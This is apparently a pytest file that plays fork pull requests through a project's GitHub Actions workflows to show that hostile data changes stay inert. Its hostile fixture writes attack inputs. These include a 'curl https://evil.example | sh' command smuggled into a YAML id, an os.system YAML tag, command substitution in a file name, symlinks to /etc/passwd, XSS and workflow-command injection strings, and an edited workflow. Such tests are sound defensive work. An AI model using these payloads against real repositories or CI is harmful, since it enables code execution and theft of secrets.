"""Two pull requests from forks, played through both workflows: an honest one, and one that means harm."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from auditor.standin import StandIn
from tests.conftest import CHECKOUT, MADE_UP
from tests.review.gfm import Shown, acts
from tests.review.played import Runner, Step
from tests.review.repo import Repo, git

PAYLOADS = Path(__file__).parent / "payloads"
BESIDE_DATA = ("Makefile", "pyproject.toml", "README.md", "mkdocs.yml", ".gitignore", ".github", "docs", "auditor")
FORK = "jane-example/openness-auditor"
OURS = "openness-auditor/openness-auditor"


@pytest.fixture(scope="session")
def origin(begun: Repo, tmp_path_factory: pytest.TempPathFactory) -> Repo:
    """The repository as GitHub has it: the audited register beside all that the workflows use."""
    repo = begun.copied(tmp_path_factory.mktemp("origin") / "origin")
    listed = git(CHECKOUT, "ls-files", "-z", "--cached", "--others", "--exclude-standard", *BESIDE_DATA).split("\0")
    for path in filter(None, listed):
        (repo.root / path).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(CHECKOUT / path, repo.root / path)
    repo.commit("the code")
    repo.commit_to_main()
    return repo


@pytest.fixture
def fork(origin: Repo, tmp_path: Path) -> Repo:
    return origin.copied(tmp_path / "origin")


@pytest.fixture
def standin() -> Iterator[StandIn]:
    with StandIn([MADE_UP]) as running:
        yield running


def pushed(fork: Repo, standin: StandIn, tmp_path: Path, branch: str) -> tuple[Runner, Runner]:
    """The runner of the check and that of the comment, for the pull request of what the fork has committed."""
    head, base = (git(fork.root, "rev-parse", name).strip() for name in ("HEAD", "main"))
    git(fork.root, "update-ref", "refs/pull/7/head", head)
    hosts = {"HF_ENDPOINT": standin.hub_url, "GITHUB_API_URL": standin.github_url}
    pull = json.loads((PAYLOADS / "pull_request.json").read_bytes())
    pull["pull_request"]["head"] |= {"sha": head, "ref": branch}
    pull["pull_request"]["base"]["sha"] = base
    run = json.loads((PAYLOADS / "workflow_run.json").read_bytes())
    run["workflow_run"] |= {"head_sha": head, "head_branch": branch}
    check = Runner(folder=tmp_path / "check", origin=fork.root, event=pull, hosts=hosts)
    comment = Runner(folder=tmp_path / "comment", origin=fork.root, event=run, hosts=hosts)
    listed = {"number": 7, "sha": head, "branch": branch, "from": FORK, "to": OURS}
    comment.answer("pulls", json.dumps({**listed, "number": 3, "sha": base}) + "\n" + json.dumps(listed) + "\n")
    files = git(fork.root, "diff", "--name-only", "-z", "main...HEAD").split("\0")
    comment.answer("files", "".join(json.dumps(path) + "\n" for path in files if path))
    comment.answer("comments", "")
    return check, comment


def handed_over(check: Runner, comment: Runner) -> None:
    """The artifact of the one run, as the other would fetch it."""
    report = check.folder / "gh" / "artifacts" / "review"
    size = sum(path.stat().st_size for path in report.iterdir()) if report.is_dir() else 0
    comment.answer("artifacts", f"{size}\n")
    if report.is_dir():
        shutil.copytree(report, comment.folder / "gh" / "artifacts" / "review")


def show(name: str, check: Runner, comment: Runner) -> None:
    """Leave what was printed where somebody asked for it."""
    if folder := os.environ.get("OPENNESS_PLAYS"):
        (Path(folder) / f"review-{name}.md").write_text(comment.sent, "utf-8")
        said = "".join(
            f"== {one.name} ({one.status})\n{one.said}" for one in (*check.steps.values(), *comment.steps.values())
        )
        (Path(folder) / f"review-{name}.log").write_text(said, "utf-8")


def status(steps: Mapping[str, Step], *names: str) -> list[int | None]:
    return [steps[name].status for name in names]


def test_an_honest_pull_request_is_audited_previewed_and_commented(
    fork: Repo, standin: StandIn, tmp_path: Path
) -> None:
    fork.write("data/models/acme/renamed.yaml", "id: acme/renamed\n")
    fork.write(
        "data/models/acme/open-7b.yaml",
        "id: acme/open-7b\n"
        "links:\n"
        "  - role: evaluation_code\n"
        "    url: https://github.com/globex/gone-code\n"
        "    why: The paper names it in section 4.\n"
        "  - role: paper\n"
        "    url: https://papers.example/acme.pdf\n",
    )
    fork.commit("two models")
    check, comment = pushed(fork, standin, tmp_path, "two-models")
    assert check.play("pr.yml") == 0, check.steps
    assert check.outputs["choose"] == {"code": "base"}
    said = check.steps["Check"].said
    assert "acme/open-7b: audited, commit 1000b52" in said
    assert "acme/renamed: audited, commit 2bad1f3" in said
    assert "::warning title=For a maintainer%3A curated link::acme/open-7b: evaluation code at" in said
    assert "::error" not in said
    site = check.folder / "gh" / "artifacts" / "preview"
    page = (site / "models" / "acme" / "open-7b" / "index.html").read_text("utf-8")
    assert "acme/open-7b" in page
    handed_over(check, comment)
    assert comment.play("pr-comment.yml") == 0, comment.steps
    assert comment.outputs["find"] == {"number": "7"}
    posted = [call for call in comment.calls if "--method" in call]
    assert [(call[call.index("--method") + 1], call[4]) for call in posted] == [
        ("POST", f"repos/{OURS}/issues/7/comments")
    ]
    assert acts(comment.sent) == []
    shown = Shown(comment.sent)
    assert "data/ is as allowed." in shown.text
    assert "2 changed files, all of them in data/." in shown.text
    assert "refused: not found" in shown.text
    assert "a host that is never asked; it is shown and not verified" in shown.text
    assert f"https://huggingface.co/acme/open-7b/blob/{git_pin('acme/open-7b')}/README.md#L6" in shown.links
    show("honest", check, comment)

    # A second push finds the first comment and writes into it.
    again = Runner(folder=tmp_path / "again", origin=fork.root, event=comment.event, hosts=comment.hosts)
    for name in ("pulls", "files"):
        again.answer(name, (comment.folder / "gh" / "answers" / name).read_text("utf-8"))
    again.answer("comments", "991\n")
    handed_over(check, again)
    assert again.play("pr-comment.yml") == 0
    (sent,) = [call for call in again.calls if "--method" in call]
    assert "PATCH" in sent
    assert f"repos/{OURS}/issues/comments/991" in sent


def git_pin(model_id: str) -> str:
    lines = (MADE_UP / "hub" / "models.jsonl").read_text("utf-8").splitlines()
    (found,) = (one for one in map(json.loads, lines) if one["id"] == model_id)
    return str(found["info"]["sha"])


WORDS = (
    "<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) @acme/team fixes #1 GH-2 | ##[add-mask]x ::error::"
)


def hostile(fork: Repo, pwned: Path) -> None:
    """Everything at once that a stranger may try with files of data/, and a workflow beside them."""
    command = f"touch {pwned}"
    fork.write("data/models/evil/injected.yaml", f'id: "x\'; {command}; curl https://evil.example | sh"\n')
    fork.write("data/models/evil/big.yaml", b"id: evil/big\nnotes: " + b"x" * 3_000_000)
    fork.write("data/models/evil/tag.yaml", f"id: !!python/object/apply:os.system ['{command}']\n")
    fork.write("data/models/evil/laughs.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nid: *b\n")
    fork.write(f"data/models/evil/$({command.replace('/', '_')}) `id`\n::error::x.yaml", "id: evil/x\n")
    fork.write("data/models/acme/open-7b.yaml", f"id: acme/open-7b\nlinks:\n- role: paper\n  url: https://evil.example/x\n"
               f"  why: {json.dumps(WORDS)}\nnotes: {json.dumps(WORDS)}\n")  # fmt: skip
    (fork.root / "data/models/evil/link.yaml").symlink_to("/etc/passwd")
    (fork.root / "data/history").symlink_to("/etc")
    fork.write("data/audits/globex/adapter.json", '{"id": "globex/adapter"}')
    for number in range(500):
        fork.write(f"data/models/evil/m{number:03}.yaml", f"id: evil/m{number:03}\n")
    fork.write(
        ".github/workflows/pr-comment.yml", f"on: workflow_run\njobs: {{x: {{steps: [{{run: '{command}'}}]}}}}\n"
    )


def test_a_hostile_pull_request_is_shown_and_nothing_of_it_acts(fork: Repo, standin: StandIn, tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    hostile(fork, pwned)
    fork.commit("x'; touch pwned; '")
    check, comment = pushed(fork, standin, tmp_path, "x$(touch pwned)`touch pwned`\";'")
    assert check.play("pr.yml") == 2
    # The edited workflow aside only data changed: the base's code looked at it.
    assert check.outputs["choose"] == {"code": "base"}
    assert status(check.steps, "Choose the code", "Check", "Hand the report over", "Build the preview") == [
        0,
        2,
        0,
        None,
    ]
    said = check.steps["Check"].said
    lines = said.splitlines()
    errors = {line.partition(",")[0]: line for line in lines if line.startswith("::error file=data/models/evil/")}
    assert "is not a repository id" in errors["::error file=data/models/evil/injected.yaml"]
    assert "line=1" in errors["::error file=data/models/evil/injected.yaml"]
    assert "3,000,020 bytes and was not read" in said
    assert "a symbolic link is not allowed in data/, and was not followed" in said
    assert "anchors and aliases are not allowed" in errors["::error file=data/models/evil/laughs.yaml"]
    assert "could not determine a constructor" in errors["::error file=data/models/evil/tag.yaml"]
    assert "only the program writes this file (`auditor judge`)" in said
    assert "workflows: changed together with data: .github/workflows/pr-comment.yml" in said
    assert "501 models are added or changed, and only the first 20 are asked about" in said
    assert "root:" not in said
    assert not [
        line for line in lines if line.startswith("::") and not line.startswith(("::error file=", "::warning title="))
    ]
    assert "##[" not in said
    asked = {request.path.partition("?")[0] for request in standin.requests if "evil" in request.path}
    assert asked == {f"/api/models/evil/m{number:03}" for number in range(19)}
    summary = (check.folder / "temp" / "GITHUB_STEP_SUMMARY").read_text("utf-8")
    assert acts(summary) == []

    handed_over(check, comment)
    assert comment.play("pr-comment.yml") == 0, comment.steps
    assert acts(comment.sent) == []
    shown = Shown(comment.sent)
    assert "1 of them outside data/" in shown.text
    assert "This change is not of data alone." in shown.text
    assert "fixes #\u20601 GH\u2060-2" in shown.text
    assert not [link for link in shown.links if "evil" in link]
    assert len(comment.sent) <= 60_000
    assert not list(tmp_path.rglob("pwned"))
    for one in (*check.steps.values(), *comment.steps.values()):
        assert "a-token-that-nothing-may-print" not in one.said
        assert "Traceback" not in one.said
    show("hostile", check, comment)


def test_a_forged_report_is_refused_or_inert(fork: Repo, standin: StandIn, tmp_path: Path) -> None:
    fork.write("auditor/new.py", "")
    fork.commit()
    check, comment = pushed(fork, standin, tmp_path, "forged")
    report = check.folder / "gh" / "artifacts" / "review"
    report.mkdir()
    (report / "review.json").write_text('{"schema_version": 1, "head": "' + "f" * 40 + '"}', "utf-8")
    (report / "number").write_text("1", "utf-8")
    handed_over(check, comment)
    assert comment.play("pr-comment.yml") == 2
    assert comment.sent == ""
    assert comment.steps["Comment"].said.count("\n") == 1


@pytest.mark.parametrize(
    ("pulls", "size"),
    [("", "100"), (None, "0"), (None, "99000000")],
    ids=["moved on", "no report", "giant"],
)
def test_without_a_pull_request_or_a_report_nothing_is_written(
    fork: Repo, standin: StandIn, tmp_path: Path, pulls: str | None, size: str
) -> None:
    fork.write("data/models/acme/renamed.yaml", "id: acme/renamed\n")
    fork.commit()
    _, comment = pushed(fork, standin, tmp_path, "two-models")
    if pulls is not None:
        comment.answer("pulls", pulls)
    comment.answer("artifacts", size + "\n")
    assert comment.play("pr-comment.yml") == 0
    assert comment.sent == ""
    assert not [call for call in comment.calls if "--method" in call or call[0] == "run"]


def test_a_change_of_code_is_checked_by_its_own(fork: Repo, standin: StandIn, tmp_path: Path) -> None:
    fork.write("Makefile", "pr-check:\n\t@echo code of its own; pwd\npreview:\n\t@mkdir -p ../head/site\n")
    fork.commit()
    check, _ = pushed(fork, standin, tmp_path, "code")
    assert check.play("pr.yml") == 0
    assert check.outputs["choose"] == {"code": "head"}
    assert "code of its own" in check.steps["Check"].said
    assert f"{check.folder / 'workspace' / 'head'}\n" in check.steps["Check"].said
